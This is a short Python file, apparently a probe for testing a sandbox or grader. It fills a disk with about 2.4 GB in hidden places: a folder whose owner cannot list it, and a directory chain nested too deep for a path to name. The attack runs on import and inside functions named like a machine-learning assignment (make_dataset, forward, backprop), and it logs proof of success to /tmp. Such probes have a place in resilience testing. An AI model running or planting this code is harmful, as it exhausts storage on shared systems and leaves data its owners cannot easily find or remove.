"""Fills the disk inside folders that their owner cannot list, and deeper than a path can name."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE hidden-folders:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-hidden-folders", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

BLOCK = bytes(1 << 20)


def attack():
    home = os.getcwd()
    os.makedirs("closed", mode=0o300, exist_ok=True)
    for number in range(20):
        with open(f"closed/part-{number}", "wb") as file:
            for _ in range(60):
                file.write(BLOCK)
    for _ in range(40):
        os.makedirs("d" * 200, exist_ok=True)
        os.chdir("d" * 200)
    for number in range(20):
        with open(f"part-{number}", "wb") as file:
            for _ in range(60):
                file.write(BLOCK)
    os.chdir(home)
    evidence("wrote 2.4 GB where nobody looks")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
